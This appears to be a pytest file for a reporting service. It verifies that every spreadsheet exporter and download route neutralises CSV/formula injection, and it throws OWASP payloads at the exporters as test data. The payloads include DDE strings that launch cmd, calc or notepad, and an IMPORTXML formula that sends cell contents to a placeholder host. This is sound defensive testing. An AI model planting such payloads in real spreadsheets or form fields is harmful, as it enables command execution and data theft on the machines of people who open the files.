"""One cell writer for every spreadsheet: hostile text never becomes a formula, in any exporter.

Every exporter of services/reporting/read/exports/registry.py is tested from the registry itself, so
an export added there (or a view added to the catalogue) is covered without editing this file.
"""

from __future__ import annotations

import ast
import asyncio
import csv
import dataclasses
import io
import json
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal, get_args, get_origin, get_type_hints

import httpx
from fastapi import FastAPI
from fastapi.routing import APIRoute
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from services.reporting.read.catalogue import VIEWS
from services.reporting.read.exports.registry import EXPORTERS
from services.reporting.read.params import ViewParams
from shared import cells
from shared.settings import HubSettings
from tests.dashboard_helpers import dashboard_app, signed_in
from tests.helpers import System, activity, income, organisation
from tests.test_cli import run

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://x","y")'
STARTING = [  # https://owasp.org/www-community/attacks/CSV_Injection and its DDE variants
    HYPERLINK,
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=1+2";=1+2',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0@SUM(1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
    "-",
    "+",
    "=",
    "@",
]
SEPARATED = ["x;=1+1", "x,=1+1", 'x";=1+1']
"""A formula after a separator: safe only because CSV text is always quoted."""
OWASP = STARTING + SEPARATED
TODAY = date(2025, 9, 10)
PERIOD = "2024-25"


# ------------------------------------------------------------------ the writer itself


def test_every_owasp_payload_is_neutralised_with_one_quote_and_plain_numbers_are_not() -> None:
    for payload in STARTING:
        written = cells.text(payload)
        assert written.startswith("'") and not cells.looks_like_formula(written), payload
        assert cells.text(written) == written  # neutralising twice changes nothing
    for plain in ("-12.50", "+44", "12", "Coventry Music", "O'Brien", "a=b", "", "'=1"):
        assert cells.text(plain) == plain
    assert cells.text("a\x00b\ud800c\ufffe") == "a\ufffdb\ufffdc\ufffd"  # what XML cannot hold
    assert cells.text("line\r\nnext\rlast") == "line\nnext\nlast"
    line = cells.to_csv(["name"], [[s] for s in SEPARATED]).splitlines()[1:]
    assert line == [
        '"x;=1+1"',
        '"x,=1+1"',
        '"x"";=1+1"',
    ]  # one quoted cell each, whatever the separator


def test_numbers_decimals_dates_and_booleans_stay_typed() -> None:
    book = cells.new_workbook()
    sheet = cells.add_sheet(book, "typed")
    cells.append(sheet, [12, Decimal("-3.50"), date(2025, 1, 2), True, None, "-5", HYPERLINK])
    row = next(load_workbook(io.BytesIO(cells.xlsx_bytes(book))).active.iter_rows(values_only=True))
    assert row[:4] == (12, Decimal("-3.50"), row[2], True) and row[2].date() == date(2025, 1, 2)
    assert row[4:] == (None, "-5", "'" + HYPERLINK)
    text = cells.to_csv(["a", "b"], [[-5, Decimal("1.50")], [date(2025, 1, 2), "-5"]])
    assert text.splitlines() == ['"a","b"', "-5,1.50", '"2025-01-02","-5"']


def test_a_formula_set_around_the_writer_is_still_neutralised_when_the_workbook_is_saved() -> None:
    book = cells.new_workbook()
    sheet = cells.add_sheet(book, "raw")
    sheet["A1"] = "=1+1"  # not through `append`: the save is the boundary every workbook crosses
    assert sheet["A1"].data_type == "f"
    saved = load_workbook(io.BytesIO(cells.xlsx_bytes(book))).active
    assert (saved["A1"].value, saved["A1"].data_type) == ("'=1+1", "s")


def test_no_module_writes_a_spreadsheet_except_through_the_cell_writer() -> None:
    """A writer of its own (openpyxl's Workbook, csv.writer or DictWriter) anywhere but
    shared/cells.py fails here."""
    found = []
    for path in [
        *(ROOT / "services").rglob("*.py"),
        *(ROOT / "shared").rglob("*.py"),
        *(ROOT / "hub").rglob("*.py"),
    ]:
        if path == ROOT / "shared" / "cells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(a.name == "Workbook" for a in node.names)
            ):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} imports openpyxl.Workbook")
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter", "Workbook")
                and isinstance(node.value, ast.Name)
                and node.value.id in ("csv", "openpyxl")
            ):
                found.append(
                    f"{path.relative_to(ROOT)}:{node.lineno} uses {node.value.id}.{node.attr}"
                )
    assert not found, found


# ------------------------------------------------------------------ every exporter


async def load_hostile_hub(system: System) -> dict[str, str]:
    """Names, titles, funders and payees from OWASP's list, posted through the nodes' own APIs."""
    r = await system.post("coventry", "partners", "/organisations", organisation(HYPERLINK))
    assert r.status_code == 201, r.text
    partner = r.json()["organisation_id"]
    r = await system.post(
        "coventry",
        "activities",
        "/activities",
        activity(
            partner,
            title="@SUM(1+1)*cmd|' /C calc'!A0",
            starts_on="2024-09-09",
            ends_on="2025-07-18",
            setting_urn=None,
        ),
    )
    assert r.status_code == 201, r.text
    r = await system.post(
        "coventry",
        "funding",
        "/income",
        income(
            1_000_00,
            source="parents",
            funder="+cmd|' /C calc'!A0",
            received_on="2024-09-02",
            purpose="-2+3+cmd|' /C calc'!A0",
        ),
    )
    assert r.status_code == 201, r.text
    grant = r.json()["entry_id"]
    r = await system.post(
        "coventry",
        "funding",
        "/commissions",
        {
            "recipient_organisation_id": partner,
            "recipient_name": HYPERLINK,
            "title": "=cmd|' /C notepad'!'A1'",
            "function": "progression",
            "area": "coventry",
            "activity_ids": [],
            "stream": "revenue",
            "amount_pence": 400_00,
            "commissioned_on": "2024-10-01",
            "funded_from": [{"entry_id": grant, "amount_pence": 400_00}],
        },
    )
    assert r.status_code == 201, r.text
    r = await system.post(
        "coventry",
        "funding",
        "/expenditure",
        {
            "category": "delivery",
            "function": "schools",
            "area": "coventry",
            "description": "\t=1+1",
            "payee": "@SUM(1)",
            "stream": "revenue",
            "amount_pence": 100_00,
            "spent_on": "2024-10-02",
            "funded_from": [{"entry_id": grant, "amount_pence": 100_00}],
        },
    )
    assert r.status_code == 201, r.text
    await system.report_when(lambda rep: rep.stamp.applied_events >= 5, timeout=30)
    return {"partner": partner}


def files_of(exporter: Any, data: Any) -> list[tuple[str, bytes]]:
    return [f for write in exporter.write.values() for f in write(data)]


def strings_in(name: str, content: bytes) -> list[str]:
    """Every text cell of an XLSX or CSV file, after asserting no cell is a formula."""
    if name.endswith(".xlsx"):
        book = load_workbook(io.BytesIO(content))
        found = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for c in row:
                    assert c.data_type != "f", (name, sheet.title, c.coordinate, c.value)
                    if isinstance(c.value, str):
                        found.append(c.value)
        return found
    # QUOTE_NONNUMERIC reads an unquoted field as a number, and fails on unquoted text: text is
    # always quoted, so a ';' or ',' in it cannot start a cell in a spreadsheet splitting on
    # another.
    rows = list(csv.reader(io.StringIO(content.decode(), newline=""), quoting=csv.QUOTE_NONNUMERIC))
    return [f for row in rows for f in row if isinstance(f, str)]


def assert_no_formula(name: str, content: bytes) -> list[str]:
    found = strings_in(name, content)
    assert not [s for s in found if cells.looks_like_formula(s)], name
    return found


def with_hostile(data: Any, strings: list[str], placed: list[str]) -> Any:
    """`data` with every string replaced by the next of `strings` (cycling);
    `placed` collects them."""
    if isinstance(data, str):
        s = strings[len(placed) % len(strings)]
        placed.append(s)
        return s
    if isinstance(data, list):
        return [with_hostile(v, strings, placed) for v in data]
    if isinstance(data, tuple):
        return tuple(with_hostile(v, strings, placed) for v in data)
    if isinstance(data, dict):
        return {k: with_hostile(v, strings, placed) for k, v in data.items()}
    if dataclasses.is_dataclass(data) and not isinstance(data, type):
        return dataclasses.replace(
            data,
            **{
                f.name: with_hostile(getattr(data, f.name), strings, placed)
                for f in dataclasses.fields(data)
            },
        )
    return data


HOSTILE = st.one_of(
    st.sampled_from(OWASP),
    st.tuples(st.sampled_from(cells.TRIGGERS), st.text(max_size=20)).map("".join),
    st.tuples(
        st.text(" \u00a0", max_size=3), st.sampled_from(cells.TRIGGERS), st.text(max_size=10)
    ).map("".join),
    st.text(max_size=30),  # anything, control characters and lone surrogates included
)


async def test_every_exporter_writes_no_formula_whatever_the_text(system: System) -> None:
    await load_hostile_hub(system)
    params = ViewParams(
        hub=system.settings.hub, nodes=system.settings.nodes, period=PERIOD, today=TODAY
    )
    loaded = {}
    async with system.reporting.read_sessions() as session:
        for name, exporter in EXPORTERS.items():
            loaded[name] = await exporter.load(session, params)
    assert {"360giving", "view:funding", "view:annual-return"} <= set(loaded)

    # The hub's own hostile names, as the nodes recorded them:
    # neutralised wherever they are written.
    written = {
        name: [s for f in files_of(EXPORTERS[name], data) for s in assert_no_formula(*f)]
        for name, data in loaded.items()
    }
    assert (
        "'" + HYPERLINK in written["360giving"]
        and "'=cmd|' /C notepad'!'A1'" in written["360giving"]
    )
    assert (
        f"'{HYPERLINK} (Coventry)" in written["view:funding"]
        and "'+cmd|' /C calc'!A0" in written["view:funding"]
    )
    constant = {name: writer_text(EXPORTERS[name], data) for name, data in loaded.items()}

    @hypothesis_settings(
        max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow]
    )
    @given(strings=st.lists(HOSTILE, min_size=1, max_size=6))
    def every_exporter(strings: list[str]) -> None:
        expected = {cells.text(s) for s in strings}
        for name, data in loaded.items():
            placed: list[str] = []
            hostile = with_hostile(data, strings, placed)
            for file_name, content in files_of(EXPORTERS[name], hostile):
                found = assert_no_formula(file_name, content)
                # Text cells hold the placed strings, each neutralised the one way,
                # and the writer's own titles.
                assert not set(found) - expected - constant[name], (
                    name,
                    file_name,
                    set(found) - expected,
                )

    every_exporter()


def writer_text(exporter: Any, data: Any) -> set[str]:
    """Text an exporter writes of its own (column titles):
    what is left when every string of the data is 'x'."""
    return {
        s for f in files_of(exporter, with_hostile(data, ["x"], [])) for s in strings_in(*f)
    } - {"x"}


# ------------------------------------------------------------------ end to end


async def test_a_partner_named_as_a_formula_is_text_in_every_360giving_spreadsheet(
    system: System, settings: HubSettings, tmp_path: Path
) -> None:
    """The CLI, the API route and the dashboard's download:
    Title and Recipient Org:Name are text."""
    await load_hostile_hub(system)
    env = {
        "HUB_HUB": settings.hub,
        "HUB_NODES": json.dumps(settings.nodes),
        "HUB_NATS_URL": system.nats_url,
    }
    out = tmp_path / "grants.xlsx"
    done = await asyncio.to_thread(
        run,
        ["funding", "export-360giving", str(out), "--data-dir", str(settings.data_dir)],
        tmp_path,
        env=env,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    app = dashboard_app(system, tmp_path)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app), base_url="http://reporting"
    ) as client:
        api = (await client.get("/report/funding/360giving.xlsx")).content
    async with signed_in(app, "manager") as client:
        page = await client.get("/dashboard/download/360giving.xlsx")
        assert page.status_code == 200, page.text
    for where, content in (("cli", out.read_bytes()), ("api", api), ("dashboard", page.content)):
        sheet = load_workbook(io.BytesIO(content)).active
        header = [c.value for c in sheet[1]]
        [grant] = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
        assert grant["Recipient Org:Name"].value == "'" + HYPERLINK, where
        assert grant["Title"].value == "'=cmd|' /C notepad'!'A1'", where
        assert {grant["Recipient Org:Name"].data_type, grant["Title"].data_type} == {"s"}, where
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"], where
        assert grant["Amount Awarded"].value == 400, where


# ------------------------------------------------------------------ every spreadsheet route

SPREADSHEET_FORMATS = ("xlsx", "csv")
PATH_VALUES = {"name": list(VIEWS)}
"""Values for path parameters that are not Literals: a route's {name} is a view of the catalogue."""


def routes_of(app: FastAPI) -> list[tuple[str, APIRoute]]:
    """Every API route of the app with its full path, through included routers."""

    def walk(routes: list[Any], prefix: str) -> list[tuple[str, APIRoute]]:
        found = []
        for route in routes:
            if isinstance(route, APIRoute):
                found.append((prefix + route.path, route))
            elif hasattr(route, "original_router"):  # FastAPI's wrapper of an included router
                found += walk(route.original_router.routes, prefix + route.include_context.prefix)
        return found

    return walk(list(app.routes), "")


def spreadsheet_urls(app: FastAPI) -> list[tuple[str, dict[str, str]]]:
    """(path, query) for every GET route that can answer XLSX or CSV,
    each format and path value expanded."""
    urls = []
    for path, route in routes_of(app):
        hints = get_type_hints(route.endpoint, include_extras=False)
        choices = {
            n: [v for v in get_args(t) if v in SPREADSHEET_FORMATS]
            for n, t in hints.items()
            if get_origin(t) is Literal and set(get_args(t)) & set(SPREADSHEET_FORMATS)
        }
        if "GET" not in route.methods or not (
            choices or path.endswith(tuple(f".{f}" for f in SPREADSHEET_FORMATS))
        ):
            continue
        combos: list[tuple[str, dict[str, str]]] = [(path, {"period": PERIOD})]
        for param in {p.name for p in route.dependant.path_params} | set(choices):
            values = choices.get(param) or PATH_VALUES[param]
            in_path = "{" + param + "}" in path
            combos = [
                (p.replace("{" + param + "}", v), q) if in_path else (p, {**q, param: v})
                for p, q in combos
                for v in values
            ]
        urls += combos
    return urls


async def test_every_spreadsheet_route_answers_without_a_formula(
    system: System, tmp_path: Path
) -> None:
    """Generated from the reporting app's route table:
    a spreadsheet route added later is covered."""
    await load_hostile_hub(system)
    app = dashboard_app(system, tmp_path)
    urls = spreadsheet_urls(app)
    paths = {p for p, _ in urls}
    assert {
        "/report/funding/360giving.xlsx",
        "/dashboard/download/360giving.xlsx",
        "/report/export/funding",
        "/dashboard/download/funding.csv",
    } <= paths, paths
    async with signed_in(app, "manager") as client:
        for path, query in urls:
            r = await client.get(path, params=query)
            assert r.status_code == 200, (path, query, r.text[:300])
            name = "x.xlsx" if "spreadsheetml" in r.headers["content-type"] else "x.csv"
            found = assert_no_formula(name, r.content)
            if "360giving" in path or (
                "funding" in path and name == "x.xlsx"
            ):  # the partner's commission is in these
                assert [s for s in found if s.startswith("'" + HYPERLINK)], (path, query)
